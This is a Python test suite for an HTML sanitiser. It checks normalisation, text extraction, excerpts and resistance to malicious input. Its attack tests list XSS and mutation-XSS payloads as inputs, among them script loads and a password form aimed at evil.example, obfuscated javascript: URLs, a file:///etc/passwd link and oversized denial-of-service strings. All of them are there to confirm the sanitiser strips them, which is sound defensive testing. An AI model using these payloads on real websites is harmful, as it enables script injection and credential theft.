"""What an attacker, a word processor or an accident may send, and what comes out of it."""

import re
import time
from html import escape
from html.parser import HTMLParser
from xml.etree import ElementTree

import nh3
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from entries.excerpts import excerpt
from entries.sanitising import ATTRIBUTES, INLINE, TAGS, clean_html, clean_line, clean_text, one_line, plain_text

BLOCKS = {"p", "h3", "h4", "blockquote", "ul", "ol", "pre", "hr", "figure", "table"}
VOID = {"br", "hr", "img"}
# The letters of tags and texts, broken in all the ways there are.
NAMES = (
    "p div span b i a em h1 h3 h4 h6 ul ol li table tr td tbody tfoot caption col blockquote pre figure figcaption "
    "img br hr button marquee applet object svg math mtext foreignObject annotation-xml desc title style script "
    "template noscript select option form textarea font nobr dl dd ruby frameset body iframe listing xmp plaintext code"
).split()
GIVEN = st.sampled_from(
    [
        "",
        ' href="/x"',
        ' href="javascript:x()"',
        " src=/i.png",
        " src",
        " onerror=x()",
        ' alt="<b>&quot;"',
        "/",
        " a='\"'",
    ]
)
SCRAPS = st.sampled_from(
    'x|y | |\n|\n\n|&nbsp;|&#8;|&#0;|&#xD;|&lt;|&|<|>|"|—“”é|\u2003|\x00|\x0b|\r|\f|\ufeff|\ud800'
    "|<!--|-->|<![CDATA[|]]>|<?|</p>|</br>|</".split("|")
)
NAME = st.sampled_from(NAMES)
OPENED = st.builds("<{}{}>".format, NAME, GIVEN)
HTML = st.lists(st.one_of(OPENED, OPENED, NAME.map("</{}>".format), SCRAPS), max_size=25).map("".join)


class Reader(HTMLParser):
    """Collects what stands on the top level, what is not allowed and what is not nested."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.top: set[str] = set()
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not self.open:
            self.top.add(tag)
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
        self.wrong += [] if tag in TAGS else [tag]
        self.wrong += [name for name, _ in attrs if name not in allowed]
        self.wrong += [value or "" for name, value in attrs if name in {"href", "src"} and "script:" in (value or "")]
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        if not self.open and data.strip():
            self.wrong.append(data)


def parsed(html: str) -> str:
    """`html` as a browser's parser understands it, written down again."""
    kept = {tag: {"href", "src", "alt", "title", "lang", "dir", "width", "height", "start", "colspan", "rowspan"}
            for tag in TAGS}  # fmt: skip
    return nh3.clean(html, tags=TAGS, attributes=kept, link_rel=None)


@settings(max_examples=300, deadline=None)
@given(HTML)
@example("<li>one</li>")
@example("<p><button><p>x")
@example("<pre>\n\n\nx</pre>")
@example("<a href=/x><marquee><a href=/y>z")
@example("<table><tfoot><tr><td>x</table>")
@example("<svg><p><style><img src onerror=x()>")
@example("<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=x()>'>")
@example("<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src onerror=x()>'>")
@example('<noscript><p title="</noscript><img src onerror=x()>">')
def test_whatever_comes_in_blocks_come_out_that_stay_as_they_are(source: str) -> None:
    clean = clean_html(source)
    assert clean_html(clean) == clean
    assert parsed(clean) == clean
    read = Reader(clean)
    assert (read.wrong, read.open, read.top - BLOCKS) == ([], [], set())
    assert clean_text(clean) == clean
    assert ElementTree.fromstring(f"<d>{escape(clean)}</d>").text == (clean or None)  # noqa: S314


@settings(max_examples=150, deadline=None)
@given(HTML)
def test_whatever_comes_in_a_line_comes_out_that_stays_as_it_is(source: str) -> None:
    line = clean_line(source)
    assert clean_line(line) == line
    assert set(re.findall(r"<([a-z0-9]+)", line)) <= INLINE
    assert "\n" not in line


@settings(max_examples=150, deadline=None)
@given(st.text(), st.integers(10, 60))
def test_any_text_can_be_read_back_and_cut(source: str, length: int) -> None:
    escaped = clean_text(source).replace("&", "&amp;").replace("<", "&lt;")
    words = plain_text(clean_html(f"<p>{escaped}</p>"))
    assert words == one_line(source)
    assert len(excerpt(f"<p>{escaped}</p>", length)) <= length


@pytest.mark.parametrize(
    "html",
    [
        "<p>Russia’s “line” — é, ж, 中, 🚀 and <strong>bold</strong>, <em>leaning</em>, <s>struck</s>.</p>",
        "<h3>A heading</h3>\n\n<h4>A subheading</h4>\n\n<p>Text<br>\nnext line</p>",
        "<blockquote>\n<p>One.</p>\n\n<p>Two.</p>\n</blockquote>",
        "<ul>\n\t<li>one</li>\n\t<li>two\n\t<ol>\n\t\t<li>inner</li>\n\t</ol>\n\t</li>\n</ul>",
        '<p><a href="https://example.org/?a=1&amp;b=2" title="Where">link</a></p>',
        '<p><a href="mailto:a@example.org">mail</a> <a href="tel:+441632960961">call</a></p>',
        '<p><a href="/live/x/"><em>a</em> <strong>b</strong></a></p>',
        '<figure><img alt="A map" height="40" src="/media/images/ab/x.png" width="64">'
        "<figcaption>The <em>coast</em></figcaption></figure>",
        '<figure><a href="/x"><img src="/x.png" alt=""></a><figcaption>Linked</figcaption></figure>',
        '<p><img alt="" src="https://example.org/x.jpg"></p>',
        "<table>\n\t<caption>Losses</caption>\n\t<thead>\n\t\t<tr>\n\t\t\t"
        '<th scope="col">A</th>\n\t\t\t<th>B</th>\n\t\t</tr>\n\t</thead>\n\t<tbody>\n\t\t<tr>\n\t\t\t'
        '<td colspan="2">1</td>\n\t\t\t<td></td>\n\t\t</tr>\n\t</tbody>\n</table>',
        "<p>a&nbsp;b &amp; c &lt; d</p>",
        "<p>above</p>\n\n<hr>\n<p>below</p>",
        "<pre>\tcode\n\n  more</pre>",
        '<p dir="rtl" lang="ar">نص</p>',
        "<p>H<sub>2</sub>O, 10<sup>3</sup>, <cite>Title</cite>, <code>x</code>, <b>b</b>, <i>i</i></p>",
        '<ol start="3">\n\t<li>\n\t<p>three</p>\n\n\t<p>more</p>\n\t</li>\n</ol>',
    ],
)
def test_what_the_editor_writes_stays_to_the_byte(html: str) -> None:
    assert clean_html(html) == html


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ('<p><img src="/x" alt="A" style="width:9px" /><br /></p><hr />', '<p><img src="/x" alt="A"><br></p><hr>'),
        ('<img src="/x.png">', '<p><img alt="" src="/x.png"></p>'),
        ('<p>a <img alt="no source"> b <img src=" "></p>', "<p>a  b </p>"),
        ("plain\n\ntext & <more", "<p>plain</p><p>text &amp; &lt;more</p>"),
        ("one\n\ntwo\nlines", "<p>one</p><p>two\nlines</p>"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
        ("&mdash;&ldquo;&eacute;&#8212;&#x1F680;", "<p>—“é—🚀</p>"),
        ("text <b>bold</b><p>block</p>after", "<p>text <b>bold</b></p><p>block</p><p>after</p>"),
        ("<h1>a</h1><h2>b</h2><H5>c</H5><h6>d</h6>", "<h3>a</h3><h3>b</h3><h4>c</h4><h4>d</h4>"),
        ("<div>a<div>b</div>c</div>", "<p>a</p><p>b</p><p>c</p>"),
        ("<dl><dt>a</dt><dd>b</dd></dl>", "<p>a</p><p>b</p>"),
        ("<form>a</form><aside>b</aside>", "<p>a</p><p>b</p>"),
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<p>a<blockquote>b</p></blockquote>", "<p>a</p><blockquote>b</blockquote>"),
        ("<li>one</li><li>two</li>", "<p>one</p><p>two</p>"),
        ("<ul><li>a<ul><li>b</ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
        ("<figcaption>alone</figcaption>", "<p>alone</p>"),
        ("<td>cell</td>", "<p>cell</p>"),
        ('<a href="/x"><p>a</p><p>b</p></a>', '<p><a href="/x">a</a></p><p><a href="/x">b</a></p>'),
        ('<a href="/x"><figure><img src="/i"></figure></a>', '<figure><a href="/x"><img alt="" src="/i"></a></figure>'),
        ("<strong><p>a</p></strong>", "<p><strong>a</strong></p>"),
        ("<b>1<i>2</b>3</i>4", "<p><b>1<i>2</i></b><i>3</i>4</p>"),
        ("word<b> </b>word<i><br></i>word", "<p>word word<br>word</p>"),
        ("<p><b></b>&nbsp;<br></p><p> </p><ul><li></li></ul><blockquote><p></p></blockquote>", ""),
        ("<table><tr><td><br></td></tr></table>", ""),
        ("<table><tr><td>1<tfoot><tr><td>2</table>",
         "<table><tbody><tr><td>1</td></tr></tbody><tbody><tr><td>2</td></tr></tbody></table>"),
        ("<pre>\n\n\ncode</pre>", "<pre>code</pre>"),
        ("<p>a\x00b\x0bc&#8;d&#11;e\x85f&#xFFFE;g\ufeffh</p>", "<p>ab\ncd\ne\nfgh</p>"),
        ("<p>a\r\nb\rc</p>", "<p>a\nb\nc</p>"),
        ("<span><font color=red>a</font></span><u>b</u>", "<p>ab</p>"),
        ('<p class="MsoNormal" style="margin:0"><o:p>x</o:p></p>', "<p>x</p>"),
        ("<!doctype html><html><head><title>t</title></head><body onload=x()><p>a</p></body></html>", "<p>a</p>"),
        ("", ""),
        (" \n ", ""),
    ],
)  # fmt: skip
def test_pasted_text_becomes_blocks(source: str, html: str) -> None:
    assert clean_html(source) == html


@pytest.mark.parametrize(
    "source",
    [
        "<script>x()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<style>@import '//evil.example'</style>",
        "<iframe src=//evil.example></iframe>",
        '<iframe srcdoc="<script>x()</script>"></iframe>',
        "<object data=x.swf><p>fallback</p></object>",
        "<embed src=x.swf>",
        "<applet code=x></applet>",
        "<base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        '<meta http-equiv=refresh content="0;url=//evil.example">',
        "<form action=//evil.example><input name=password></form>",
        "<svg onload=x()><a xlink:href=javascript:x()><text>t</text></a></svg>",
        "<svg><foreignObject><p onclick=x()>p</p></foreignObject></svg>",
        "<svg><script>x()</script></svg>",
        "<math href=javascript:x()>m</math>",
        "<math><annotation-xml encoding=text/html><script>x()</script></annotation-xml></math>",
        "<template><script>x()</script></template>",
        "<noscript><img src onerror=x()></noscript>",
        "<textarea><img src onerror=x()></textarea>",
        "<title><img src onerror=x()></title>",
        "<select><option>x</option></select>",
        "<!-- <script>x()</script> -->",
        "<!--><!-- --!><!-- >",
        "<?php x() ?>",
        "<img src=data:image/svg+xml,x onerror=x()>",
        "<img src=javascript:x()>",
        "<img srcset='javascript:x() 1x'>",
        "<video poster=javascript:x() src=x onerror=x()></video>",
        "<frameset><frame src=javascript:x()></frameset>",
        "<noframes><p>x</p></noframes><noembed><p>x</p></noembed>",
        "<script",
        "<img src=x onerror=x()",
    ],
)
def test_attack_leaves_nothing(source: str) -> None:
    left = clean_html(f"<p>before</p>{source}")
    assert left == "<p>before</p>"


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("<scr<script>ipt>x()</script>", "<p>ipt&gt;x()</p>"),
        ("<<script>script>x()</script>", "<p>&lt;</p>"),
        ('<noscript><b title="</noscript><img src onerror=x()>">', '<p>"&gt;</p>'),
        ("<![CDATA[<script>x()</script>]]>", "<p>x()]]&gt;</p>"),
        ("<svg><![CDATA[</svg><img src onerror=x()>]]></svg>", ""),
        ("<math><mi><p><style><!--</style><img src='--><img src onerror=x()>'>", ""),
        ("<plaintext><script>x()</script>", "<p>&lt;script&gt;x()&lt;/script&gt;</p>"),
        ("<!--[if IE]><script>x()</script><![endif]-->on", "<p>on</p>"),
    ],
)
def test_attack_leaves_harmless_text(source: str, html: str) -> None:
    assert clean_html(source) == html


@pytest.mark.parametrize(
    "address",
    [
        "javascript:x()",
        "JaVaScRiPt:x()",
        " javascript:x()",
        "java\nscript:x()",
        "java\tscript:x()",
        "\x01javascript:x()",
        "&#1;javascript:x()",
        "&#106;avascript:x()",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;x()",
        "java&Tab;script&colon;x()",
        "java&NewLine;script:x()",
        "javascript\x00:x()",
        "\u00a0javascript:x()",
        "javascript://example.org/%0Ax()",
        "vbscript:x()",
        "data:text/html,<script>x()</script>",
        "data:image/png;base64,AA==",
        "blob:https://example.org/x",
        "file:///etc/passwd",
        "view-source:x",
        "feed:javascript:x()",
        "unknown:x",
    ],
)
def test_address_that_is_no_page_is_taken_out(address: str) -> None:
    left = clean_html(f'<p><a href="{address}">link</a><img src="{address}" alt="picture"></p>')
    addresses = re.findall(r'(?:href|src)="([^"]*)"', left)
    # A space that is no white space to a browser makes a relative address of it: harmless, and not ours to judge.
    assert [found for found in addresses if not found.startswith(("\u00a0", "&nbsp;"))] == []
    assert "link" in left


@pytest.mark.parametrize("name", ["onclick", "ONCLICK", "style", "class", "id", "name", "srcdoc", "formaction", "ping",
                                  "target", "xmlns", "xlink:href", "data-x", "is", "slot", "background"])  # fmt: skip
@pytest.mark.parametrize("tag", ["p", "a", "img", "table", "td"])
def test_attribute_not_named_is_taken_out(tag: str, name: str) -> None:
    around = ("<table><tbody><tr>", "</tr></tbody></table>") if tag == "td" else ("", "")
    left = clean_html(f'{around[0]}<{tag} {name}="x()" src="/i" href="/l">text</{tag}>{around[1]}')
    assert name.lower() not in re.findall(r" ([\w:-]+)=", left)
    assert "x()" not in left


def test_text_that_shows_a_tag_stays_text() -> None:
    assert clean_html("<p>&lt;script&gt;x()&lt;/script&gt;</p>") == "<p>&lt;script&gt;x()&lt;/script&gt;</p>"
    assert clean_html("&amp;lt;b&amp;gt;") == "<p>&amp;lt;b&amp;gt;</p>"


def test_tag_in_an_attribute_is_written_so_that_no_later_step_takes_it_for_one() -> None:
    source = '<p><img src="/i" alt="<table><script>x()</script> &quot;"></p>'
    assert clean_html(source) == ('<p><img src="/i" alt="&lt;table&gt;&lt;script&gt;x()&lt;/script&gt; &quot;"></p>')


@pytest.mark.parametrize(
    "source",
    [
        "<p>" * 50_000,
        "<div>" * 50_000,
        "<b></b>" * 50_000,
        "<p></p>" * 50_000,
        "<b>" * 50_000 + "x",
        "<b>" * 25_000 + "</b>" * 25_000,
        "<blockquote>" * 40_000,
        "<ul><li>" * 40_000,
        "<table><tr><td>" * 10_000,
        "<span>" * 40_000 + "</p>" * 40_000,
        "<b><p>" * 20_000,
        "<a href=/x>" * 40_000,
        "<" * 100_000,
        "<a " * 100_000,
        "<!--" * 100_000,
        '<p title="' * 40_000,
        "&nbsp;" * 80_000,
        "&" * 50_000,
        "\n" * 400_000 + "x",
        "\n \n" * 100_000,
        " " * 500_000,
        "word " * 100_000,
        "<br>" * 50_000,
    ],
    ids=lambda source: source[:12].strip(),
)
def test_half_a_megabyte_of_anything_is_done_in_bounded_time(source: str) -> None:
    started = time.process_time()
    plain_text(clean_html(source))
    # Most take a third of a second; the square of the length would be minutes.
    assert time.process_time() - started < 5


def test_bold_paragraphs_never_closed_do_not_multiply() -> None:
    source = "".join(f"<p><b lang=x{number}>word" for number in range(2_000))
    assert len(clean_html(source)) < 4 * len(source)


def test_deep_nesting_loses_its_tags_and_none_of_its_words() -> None:
    depth = 200
    source = "".join(f"<blockquote>{number} " for number in range(depth)) + "</blockquote>" * depth + "<p><b>on</b></p>"
    clean = clean_html(source)
    assert plain_text(clean).split() == [str(number) for number in range(depth)] + ["on"]
    assert clean.count("<blockquote>") == 60
    assert clean.endswith("<p><b>on</b></p>")


def test_many_elements_beside_each_other_are_not_deep() -> None:
    source = "<p><a href=/x>a</a><img src=/i><br>b</p><ul><li>c<li>d</ul>" * 100
    assert clean_html(source) == (
        '<p><a href="/x">a</a><img alt="" src="/i"><br>b</p><ul><li>c</li><li>d</li></ul>' * 100
    )


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ('Read <a href="/x">the <em>day</em></a> & more', 'Read <a href="/x">the <em>day</em></a> &amp; more'),
        ("<p>one</p><p>two</p>", "one two"),
        ("<ul><li>one</li><li>two</li></ul>", "one two"),
        ("<table><tr><td>1</td><td>2</td></tr></table>", "1 2"),
        ("<h2>a</h2><hr><pre>b\nc</pre>", "a b c"),
        ("a<br>b\n\nc", "a b c"),
        ('<figure><img src="/i"><figcaption>caption</figcaption></figure>', "caption"),
        ('<a href="/x"><img src="/i"></a>', ""),
        ('<p lang="fr">un</p>', "un"),
        ("<script>x()</script>&lt;b&gt;", "&lt;b&gt;"),
        ("", ""),
    ],
)  # fmt: skip
def test_line_keeps_links_and_emphasis_and_no_block(source: str, line: str) -> None:
    assert clean_line(source) == line


@pytest.mark.parametrize(
    ("clean", "words"),
    [
        ("<p>one</p><p>two</p>", "one two"),
        ("<ul><li>one</li><li>two<br>three</li></ul>", "one two three"),
        ("<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>", "a b c"),
        ("<p>AT&amp;T&nbsp;&lt;b&gt; &amp;amp; “é”</p>", "AT&T <b> &amp; “é”"),
        ("<p>wo<b>rd</b>s, <em>all</em>.</p>", "words, all."),
        ('<figure><img src="/i" alt="not read"><figcaption>cap</figcaption></figure><hr>', "cap"),
        ("", ""),
    ],
)
def test_plain_text_is_the_words(clean: str, words: str) -> None:
    assert plain_text(clean) == words


@pytest.mark.parametrize(
    ("text", "line"),
    [("  a\n b\t\u2003c ", "a b c"), ("\ufeffHead\x00line\u2028two", "Headline two"), ("<b>", "<b>"), ("\x00", "")],
)
def test_one_line_is_plain_text_without_breaks(text: str, line: str) -> None:
    assert one_line(text) == line


@pytest.mark.parametrize(
    ("clean", "length", "words"),
    [
        ("<p>Short.</p>", 20, "Short."),
        ("<p>One two three four</p>", 18, "One two three four"),
        ("<p>One two three four</p>", 17, "One two three…"),
        ("<p>One two three four</p>", 13, "One two…"),
        ("<p>One two, three four</p>", 12, "One two…"),
        ("<p>One — two three</p>", 8, "One…"),
        ("<p>AT&amp;T &lt;grew&gt; again</p>", 12, "AT&T <grew>…"),
        ("<p>Incomprehensibilities</p>", 10, "Incompreh…"),
        ("<p>One</p><p>two</p>", 7, "One two"),
        ("", 10, ""),
    ],
)
def test_excerpt_is_cut_between_words(clean: str, length: int, words: str) -> None:
    assert excerpt(clean, length) == words
